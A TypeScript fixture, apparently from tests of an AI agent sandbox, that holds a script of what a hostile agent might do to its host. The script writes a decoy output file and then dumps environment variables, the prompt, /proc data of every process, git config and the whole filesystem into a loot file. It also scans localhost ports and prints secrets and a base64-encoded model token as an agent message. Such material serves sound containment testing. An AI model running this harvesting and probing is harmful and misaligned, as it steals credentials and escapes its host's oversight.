// What an agent could do that turned against its host: it reads whatever it can and writes it to one file.

/** Below the pod's workspace; the host finds it in the pod's volume. */
export const LOOT_FILE = "loot.bin";
/** The issue tells the agent which ports to try, in the form "ports: 1,2,3". */
export const PORTS_WORD = "ports:";

/** Body of the agent's work; see writeQuickAgent. Bounded: 20,000 files, 256 KiB of each, 64 MiB together. */
export const HOSTILE_WORK = `
  fs.writeFileSync("feature.txt", "the feature\\nformatted\\n");
  const loot = fs.openSync(process.cwd() + "/../${LOOT_FILE}.new", "w");
  let taken = 0;
  const take = (name, bytes) => {
    if (taken > 64 * 1024 * 1024) return;
    taken += bytes.length;
    fs.writeSync(loot, "\\n== " + name + "\\n");
    fs.writeSync(loot, bytes);
  };
  const read = (path) => {
    try {
      const file = fs.openSync(path, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK);
      const buffer = Buffer.alloc(256 * 1024);
      const length = fs.readSync(file, buffer, 0, buffer.length, 0);
      fs.closeSync(file);
      take(path, buffer.subarray(0, length));
    } catch (error) {
      take(path, Buffer.from("unreadable " + error.code));
    }
  };
  const run = (...argv) => {
    const { stdout, stderr } = require("node:child_process").spawnSync(argv[0], argv.slice(1), { timeout: 10_000 });
    take(argv.join(" "), Buffer.concat([stdout ?? Buffer.alloc(0), stderr ?? Buffer.alloc(0)]));
  };
  take("env", Buffer.from(JSON.stringify(process.env)));
  // What it knows it also says aloud: as an event, and in the form that a proxy would get it.
  const said = JSON.stringify(process.env) + Buffer.from("runyard:" + process.env.RUNYARD_MODEL_TOKEN).toString("base64");
  print({ type: "item.completed", item: { id: "item_9", type: "agent_message", text: said } });
  take("argv", Buffer.from(JSON.stringify(process.argv)));
  take("prompt", Buffer.from(prompt));
  take("answer", Buffer.from(answer));
  for (const pid of fs.readdirSync("/proc").filter((name) => /^[0-9]+$/.test(name)))
    for (const name of ["environ", "cmdline", "mountinfo", "status", "maps", "cgroup", "fdinfo/0"]) read("/proc/" + pid + "/" + name);
  for (const name of ["net/tcp", "net/tcp6", "net/unix", "net/route", "mounts", "keys", "cmdline", "version"]) read("/proc/" + name);
  run("git", "config", "--list", "--show-origin");
  run("id");
  run("mount");
  const seen = [];
  const walk = (directory) => {
    let entries = [];
    try { entries = fs.readdirSync(directory, { withFileTypes: true }); } catch { return; }
    for (const entry of entries) {
      const path = directory === "/" ? "/" + entry.name : directory + "/" + entry.name;
      if (seen.length > 20_000 || path === "/proc" || path === "/sys" || path.includes("${LOOT_FILE}")) continue;
      seen.push(path);
      // Public: programs of the host and our own code. Their names are taken, what is in them is not.
      if (/^[/](usr|bin|sbin|lib[^/]*|opt[/]runyard[/]app)$/.test(path)) continue;
      if (entry.isDirectory()) walk(path);
      else if (entry.isFile()) read(path);
    }
  };
  walk("/");
  take("files", Buffer.from(seen.join("\\n")));
  const net = require("node:net");
  const ports = (/${PORTS_WORD} ([0-9,]+)/.exec(prompt) ?? ["", ""])[1].split(",").map(Number).filter((port) => port > 0);
  const open = [];
  for (const port of ports) {
    await new Promise((resolve) => {
      const socket = net.connect({ host: "127.0.0.1", port, timeout: 500 });
      socket.on("connect", () => { open.push(port); socket.destroy(); resolve(); });
      socket.on("error", resolve).on("timeout", () => { socket.destroy(); resolve(); });
    });
  }
  take("open ports", Buffer.from("OPEN[" + open.join(",") + "]"));
  fs.closeSync(loot);
  fs.renameSync(process.cwd() + "/../${LOOT_FILE}.new", process.cwd() + "/../${LOOT_FILE}");
`;
